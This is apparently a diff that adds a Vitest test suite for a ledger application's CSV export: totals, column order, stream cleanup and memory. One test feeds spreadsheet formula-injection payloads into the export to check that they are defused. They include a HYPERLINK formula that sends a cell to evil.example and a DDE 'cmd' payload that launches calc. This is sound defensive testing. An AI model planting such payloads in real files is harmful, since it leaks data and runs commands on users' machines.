@@ -1,0 +1,312 @@
+import { setFlagsFromString } from 'node:v8'
+import { runInNewContext } from 'node:vm'
+import { afterAll, beforeAll, describe, expect, test } from 'vitest'
+import { createTestDatabase, type TestDatabase } from '../db/test-database.ts'
+import { DEFAULT_GROUP_QUERY, type GroupQuery } from '../ledger/group-query.ts'
+import { DEFAULT_LINE_QUERY, type LineQuery } from '../ledger/line-query.ts'
+import { listGroups } from '../ledger/list-groups.ts'
+import { listLines } from '../ledger/list-lines.ts'
+import type { CurrencyTotal } from '../ledger/model.ts'
+import { day, makeLine, makeLineOf, seedConnection, seedLines, seedOrganization } from '../ledger/seed.ts'
+import { makeVariedLines, sumExactly, toPlainValue } from '../ledger/seed-varied-lines.ts'
+import { GROUP_KEYS, type GroupKey } from '../reconcile/group-keys.ts'
+import { guardFormula } from './csv.ts'
+import { LINE_COLUMNS } from './line-columns.ts'
+import { streamGroupsCsv, streamLinesCsv } from './stream-csv.ts'
+import { parseCsvRecords, parseCsvStrictly, readAll } from './test-parse-csv.ts'
+
+let database: TestDatabase
+let organizationId: string
+let connectionId: string
+const lines = makeVariedLines(700)
+
+beforeAll(async () => {
+  database = await createTestDatabase()
+  const owner = await seedOrganization(database.query)
+  organizationId = owner.organizationId
+  connectionId = await seedConnection(database.query, owner)
+  await seedLines(organizationId, connectionId, lines)
+})
+afterAll(() => database.drop())
+
+const lineQuery = (change: Partial<LineQuery> = {}): LineQuery => ({ ...DEFAULT_LINE_QUERY, ...change })
+const groupQuery = (change: Partial<GroupQuery> = {}): GroupQuery => ({ ...DEFAULT_GROUP_QUERY, ...change })
+const readLines = async (change?: Partial<LineQuery>) =>
+  parseCsvRecords(await readAll(await streamLinesCsv(organizationId, lineQuery(change))))
+const readGroups = async (change?: Partial<GroupQuery>) =>
+  parseCsvRecords(await readAll(await streamGroupsCsv(organizationId, groupQuery(change))))
+
+/** A file's sums per currency by whole numbers, in the shape of the screen's totals. */
+function sumFile(rows: Record<string, string>[]) {
+  return [...new Set(rows.map((row) => row.currency as string))].sort().map((currency) => {
+    const own = rows.filter((row) => row.currency === currency)
+    return { currency, totalAmount: sumExactly(own.map((row) => row.total_amount as string)) }
+  })
+}
+const toSums = (totals: CurrencyTotal[]) =>
+  totals.map(({ currency, totalAmount }) => ({ currency, totalAmount: toPlainValue(totalAmount) }))
+
+describe('F32', () => {
+  const filters: [string, Partial<LineQuery>][] = [
+    ['all lines', {}],
+    ['one vertical and the unknown one', { verticals: ['flight', ''] }],
+    ['one currency with findings', { currencies: ['KWD'], findingsOnly: true }],
+    ['a span of days', { from: day('2026-01-15'), to: day('2026-02-20') }],
+    ['a text', { text: 'vendor 1' }],
+    ['nothing', { trips: ['none'] }],
+  ]
+  const combinations = [1, 2, 3].flatMap((count) => toArrangements(count))
+
+  test.each(filters)(
+    'the same sum in list, groups of every combination, both files and the database: %s',
+    async (_, filter) => {
+      const list = await listLines(organizationId, lineQuery(filter))
+      const screen = toSums(list.totals)
+      const file = await readLines(filter)
+      expect(sumFile(file)).toEqual(screen)
+      expect(file).toHaveLength(list.lineCount)
+      const ids = file.map((row) => row.id)
+      const stored = await database.query<{ currency: string; total: string }>(
+        'select currency, sum(total_amount)::text as total from line where organization_id = $1 and id = any($2) group by 1 order by 1',
+        [organizationId, ids],
+      )
+      expect(stored.map(({ currency, total }) => ({ currency, totalAmount: toPlainValue(total) }))).toEqual(screen)
+      for (const by of combinations) {
+        const groups = await listGroups(organizationId, groupQuery({ ...filter, by }))
+        expect(toSums(groups.totals)).toEqual(screen)
+        const groupFile = await readGroups({ ...filter, by })
+        expect(sumFile(groupFile)).toEqual(screen)
+        expect(groupFile.reduce((count, row) => count + Number(row.line_count), 0)).toBe(list.lineCount)
+        const findings = list.totals.reduce((count, total) => count + total.findingCount, 0)
+        expect(groupFile.reduce((count, row) => count + Number(row.finding_count), 0)).toBe(findings)
+      }
+    },
+  )
+})
+
+function toArrangements(count: number): GroupKey[][] {
+  if (count === 0) return [[]]
+  return toArrangements(count - 1).flatMap((head) =>
+    GROUP_KEYS.filter((key) => !head.includes(key)).map((key) => [...head, key]),
+  )
+}
+
+describe('the lines file', () => {
+  test('has the documented header and every line once, in the list order, whatever the page', async () => {
+    const text = await readAll(await streamLinesCsv(organizationId, lineQuery({ page: 3, pageSize: 25 })))
+    const [header, ...rows] = parseCsvStrictly(text)
+    expect(header).toEqual(LINE_COLUMNS.map(({ name }) => name))
+    expect(header?.join(',')).toBe(
+      'id,expense_date,description,quantity,unit_price,non_taxable_unit_price,tax_percentage,tax_amount,tax_regime,total_amount,currency,invoice_serial_number,invoice_mode,invoice_status,issuing_date,due_date,profile_id,profile_name,trip_id,trip_name,service,related_vertical,cost_center,start_date,end_date,travelers,booker,vendor_code,vendor_name,out_of_policy,credit_card_last_4_digits,labels,include_breakfast,finding_codes,expected_total_amount,difference,expected_tax_amount,tax_difference,note_codes,connection_id,connection_name',
+    )
+    expect(rows).toHaveLength(lines.length)
+    const page = await listLines(organizationId, lineQuery({ pageSize: 200 }))
+    expect(rows.slice(0, 200).map(([id]) => id)).toEqual(page.rows.map(({ id }) => id))
+  })
+
+  test('has each value as it is stored', async () => {
+    const byId = new Map((await readLines()).map((row) => [row.id, row]))
+    for (const line of lines) {
+      expect(byId.get(line.id)).toMatchObject({
+        quantity: line.quantity,
+        total_amount: line.totalAmount,
+        tax_amount: line.taxAmount,
+        expense_date: line.expenseDate,
+        issuing_date: line.issuingDate ?? '',
+        trip_id: line.tripId ?? '',
+        cost_center: line.costCenter ?? '',
+        finding_codes: line.proof.findings.map(({ code }) => code).join(' '),
+        difference: line.proof.difference,
+        out_of_policy: 'false',
+        travelers: line.travelerNames.join('; '),
+        connection_name: 'Acme Europe',
+      })
+    }
+  })
+
+  test('a query with no line gives the header alone', async () => {
+    expect(await readAll(await streamLinesCsv(organizationId, lineQuery({ trips: ['none'] })))).toMatch(
+      /^id,.*connection_name\r\n$/,
+    )
+  })
+})
+
+describe('the groups file', () => {
+  test('has the keys by their wire names in the order of grouping, then the figures', async () => {
+    const text = await readAll(
+      await streamGroupsCsv(organizationId, groupQuery({ by: ['cost_center', 'trip', 'vertical'] })),
+    )
+    expect(parseCsvStrictly(text)[0]).toEqual([
+      'cost_center',
+      'trip_id',
+      'trip_name',
+      'related_vertical',
+      'currency',
+      'line_count',
+      'total_amount',
+      'finding_count',
+    ])
+  })
+
+  test('names a trip the same in every row, and leaves the cell of an unknown key empty', async () => {
+    const rows = await readGroups({ by: ['trip', 'vertical'] })
+    const labels = new Map(
+      (await listGroups(organizationId, groupQuery({ pageSize: 200 }))).rows.map(({ values: [entry] }) => [
+        entry?.value ?? '',
+        entry?.label ?? '',
+      ]),
+    )
+    for (const row of rows) expect(row.trip_name).toBe(labels.get(row.trip_id as string))
+    expect(rows.some((row) => row.trip_id === '')).toBe(true)
+    expect(rows.some((row) => row.related_vertical === '')).toBe(true)
+  })
+})
+
+describe('A13', () => {
+  const hostile = [
+    '=HYPERLINK("https://evil.example/?x="&A1,"Open")',
+    "+cmd|' /C calc'!A0",
+    '-2+3',
+    '@SUM(1+1)*cmd',
+    '\t=1',
+    '\r=1',
+    ' =1',
+    '\uff1d1+1',
+    'said "x", then; a\ttab',
+    'first\r\nsecond\nthird\rfourth',
+    '"',
+    '""',
+    ',',
+    "'quoted",
+    'Caf\u00e9 \u{1F389} \u202e',
+  ]
+  test('hostile cells come back whole, none starts a formula, refunds stay numbers and the sums stay right', async () => {
+    const special = hostile.map((text, index) =>
+      makeLineOf(index % 2 === 0 ? '-48700' : '-0.05', {
+        currency: index % 2 === 0 ? 'JPY' : 'EUR',
+        description: text,
+        tripId: 'hostile',
+        tripName: text,
+        costCenter: text,
+        vendorName: text,
+        invoiceStatus: text,
+        service: text,
+        labels: [text],
+      }),
+    )
+    await seedLines(organizationId, connectionId, special)
+    const rows = await readLines({ trips: ['hostile'] })
+    expect(rows).toHaveLength(special.length)
+    for (const line of special) {
+      const row = rows.find(({ id }) => id === line.id)
+      const guarded = guardFormula(line.description)
+      expect(row).toMatchObject({
+        description: guarded,
+        trip_name: guarded,
+        cost_center: guarded,
+        vendor_name: guarded,
+        invoice_status: guarded,
+        service: guarded,
+        labels: guarded,
+      })
+      expect(row?.total_amount).toBe(line.totalAmount)
+    }
+    const numeric = LINE_COLUMNS.filter(({ kind }) => kind === 'amount').map(({ name }) => name)
+    for (const row of rows)
+      for (const [name, cell] of Object.entries(row)) {
+        if (numeric.includes(name)) expect(cell).toMatch(/^-?\d+(\.\d+)?$/)
+        else expect(cell).not.toMatch(/^[\s\ufeff]*[=+\-@\uff1d\uff0b\uff0d\uff20]/)
+      }
+    const groups = await readGroups({ trips: ['hostile'], by: ['cost_center'] })
+    expect(groups.map((row) => row.cost_center).toSorted()).toEqual(hostile.map(guardFormula).toSorted())
+    expect(sumFile(groups)).toEqual(toSums((await listLines(organizationId, lineQuery({ trips: ['hostile'] }))).totals))
+    await database.query(`delete from line where trip_id = 'hostile'`)
+  })
+})
+
+const openTransactions = () =>
+  database.query(
+    `select pid from pg_stat_activity where datname = current_database() and state like 'idle in transaction%'`,
+  )
+
+describe('the stream', () => {
+  test('a reader that goes away gives the database connection back', async () => {
+    const stream = await streamLinesCsv(organizationId, lineQuery())
+    const reader = stream.getReader()
+    await reader.read()
+    expect(await openTransactions()).toHaveLength(1)
+    await reader.cancel()
+    expect(await openTransactions()).toEqual([])
+  })
+
+  test('a reader that goes away in the middle of a read breaks nothing', async () => {
+    const stream = await streamLinesCsv(organizationId, lineQuery())
+    const reader = stream.getReader()
+    const reading = reader.read()
+    await reader.cancel()
+    await reading
+    expect(await openTransactions()).toEqual([])
+  })
+
+  test('a file that is read to its end gives the database connection back', async () => {
+    await readLines()
+    expect(await openTransactions()).toEqual([])
+  })
+
+  test('a failure on the way breaks the download: never a file that is silently too short', async () => {
+    const stream = await streamLinesCsv(organizationId, lineQuery())
+    const reader = stream.getReader()
+    expect((await reader.read()).done).toBe(false)
+    const [open] = await openTransactions()
+    await database.query('select pg_terminate_backend($1)', [open?.pid])
+    await expect(reader.read()).rejects.toThrow()
+    await expect(reader.read()).rejects.toThrow()
+    expect((await readLines()).length).toBe(lines.length)
+  })
+
+  test('a query that cannot start is an ordinary error, before any byte', async () => {
+    await expect(streamLinesCsv('no organization', lineQuery())).rejects.toThrow('uuid')
+    expect(await openTransactions()).toEqual([])
+  })
+
+  test('at most five files are made at a time, so that the pages keep their connections', async () => {
+    const streams = await Promise.all(Array.from({ length: 5 }, () => streamLinesCsv(organizationId, lineQuery())))
+    await expect(streamLinesCsv(organizationId, lineQuery())).rejects.toMatchObject({ code: 'database-unavailable' })
+    expect((await listLines(organizationId, lineQuery())).lineCount).toBe(lines.length)
+    await Promise.all(streams.map((stream) => stream.cancel()))
+    expect((await readLines()).length).toBe(lines.length)
+  })
+
+  test('memory does not grow with the file: 200,000 lines, and all of them arrive', async () => {
+    const owner = await seedOrganization(database.query, 'Large')
+    const connection = await seedConnection(database.query, owner)
+    await seedLines(owner.organizationId, connection, [makeLine({ id: 'template' })])
+    const columns = await database.query<{ name: string }>(
+      `select string_agg(column_name, ', ') as name from information_schema.columns
+       where table_name = 'line' and column_name not in ('id', 'finding_count')`,
+    )
+    await database.query(
+      `insert into line (id, ${columns[0]?.name}) select 'copy-' || n, ${columns[0]?.name} from line, generate_series(2, 200000) n
+       where organization_id = $1 and id = 'template'`,
+      [owner.organizationId],
+    )
+    setFlagsFromString('--expose-gc')
+    const collect = runInNewContext('gc') as () => void
+    const stream = await streamLinesCsv(owner.organizationId, lineQuery())
+    let newlines = 0
+    let chunks = 0
+    let baseline = 0
+    let peak = 0
+    for await (const chunk of stream) {
+      for (const byte of chunk) if (byte === 10) newlines += 1
+      chunks += 1
+      if (chunks % 20 !== 0) continue
+      collect()
+      const { heapUsed, external } = process.memoryUsage()
+      if (chunks === 20) baseline = heapUsed + external
+      peak = Math.max(peak, heapUsed + external)
+    }
+    expect(newlines).toBe(200_001)
+    expect(peak - baseline).toBeLessThan(8 * 1024 * 1024)
+  })
+})
